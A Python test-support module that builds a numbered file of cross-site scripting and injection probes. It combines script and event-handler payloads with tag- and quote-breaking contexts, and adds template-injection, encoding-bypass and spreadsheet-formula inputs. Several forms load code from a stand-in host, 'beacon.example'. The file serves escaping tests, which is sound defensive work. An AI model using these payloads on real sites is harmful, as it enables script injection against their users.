"""Which words might a page run by mistake? Ways to begin a script times places that they break out of.

`python -m tests.support.script_words` writes the list that stands beside the other test data; a test holds the two
together. Each line carries its number: whoever runs says `ran(number)`, or fetches from ELSEWHERE.
"""

from pathlib import Path

ELSEWHERE = "beacon.example"
LONGEST = 400  # of a line of words in the database
FILE = Path(__file__).resolve().parent.parent / "data" / "script-words.txt"
WAYS = (
    "<script>ran(N)</script>",
    "<ScRiPt\n>ran(N)</sCrIpT\t>",
    f"<script src=//{ELSEWHERE}/N></script>",
    "<script type=module>ran(N)</script>",
    "<img src=x onerror=ran(N)>",
    "<img/src='x'/onerror='ran(N)'>",
    f"<img src=//{ELSEWHERE}/N>",
    "<svg onload=ran(N)>",
    "<svg><animate onbegin=ran(N) attributeName=x dur=1s>",
    "<svg><script>ran(N)</script></svg>",
    "<math><mtext></mtext><img src=x onerror=ran(N)></math>",
    "<details open ontoggle=ran(N)><summary>x</summary></details>",
    "<input autofocus onfocus=ran(N)>",
    "<video><source onerror=ran(N)></video>",
    "<audio src=x onerror=ran(N)>",
    "<iframe src=javascript:parent.ran(N)></iframe>",
    "<iframe srcdoc='<script>parent.ran(N)</script>'></iframe>",
    "<object data=javascript:ran(N)></object>",
    "<a href=javascript:ran(N) autofocus>x</a>",
    "<form action=javascript:ran(N)><button>x</button></form>",
    f"<base href=//{ELSEWHERE}/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(N)'>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/N>",
    f"<style>@import '//{ELSEWHERE}/N';</style>",
    "<body onload=ran(N) onpageshow=ran(N)>",
    f"<p hx-get=//{ELSEWHERE}/N hx-trigger=load hx-on:load=ran(N)>x</p>",
    "<template shadowrootmode=open><img src=x onerror=ran(N)></template>",
)
PLACES = (
    "{}", '">{}', "'>{}", "</script>{}", "</style>{}", "</textarea>{}", "</title>{}", "</option></select>{}",
    "-->{}", "]]>{}", '"]}}</script>{}', "</noscript>{}", "</template>{}", "</svg>{}", "%22%3E{}", "</p></li></dd>{}",
    "Зоя {}", "<{}",
)  # fmt: skip
ALONE = (
    '" onfocus=ran(N) autofocus x="', "' onfocus=ran(N) autofocus x='", '" onmouseover="ran(N)', "` onfocus=ran(N) `",
    "javascript:ran(N)", "JaVaScRiPt&colon;ran(N)", "java\tscript:ran(N)", "data:text/html,<script>ran(N)</script>",
    "{{1807*1807}}", "{{ran(N)}}", "{% print 1807*1807 %}", "${ran(N)}", "#{1807*1807}", "';ran(N);//", '";ran(N);//',
    "\\u003cscript\\u003eran(N)", "\\x3cimg src=x onerror=ran(N)\\x3e", "＜script＞ran(N)＜/script＞",
    "&lt;script&gt;ran(N)&lt;/script&gt;", "&#60;img src=x onerror=ran(N)&#62;", "=HYPERLINK(\"javascript:ran(N)\")",
    "%3Cscript%3Eran(N)%3C/script%3E", "\u2028ran(N)\u2029", "*/ran(N)/*",
)  # fmt: skip
CALCULATED = str(1807 * 1807)  # stands on a page only when a template ran


def made() -> list[str]:
    """Every way in every place, numbered from 1."""
    forms = [place.format(way) for place in PLACES for way in WAYS] + list(ALONE)
    return [form.replace("N", str(number)) for number, form in enumerate(forms, 1)]


def listed() -> list[str]:
    """As they stand in the file: one a line, written as Python would."""
    return [line.encode("ascii").decode("unicode_escape") for line in FILE.read_text("ascii").splitlines()]


def packed() -> list[str]:
    """All of them in values of up to LONGEST characters; those that must begin a value stand alone."""
    words = listed()
    values = words[-len(ALONE) :]
    for word in words[: -len(ALONE)]:
        if len(values) > len(ALONE) and len(values[-1]) + len(word) < LONGEST:
            values[-1] += f" {word}"
        else:
            values.append(word)
    return values


def write() -> None:
    """Write the file anew."""
    lines = [one.encode("unicode_escape").decode("ascii") for one in made()]
    FILE.write_text("\n".join(lines) + "\n", "ascii")


if __name__ == "__main__":
    write()
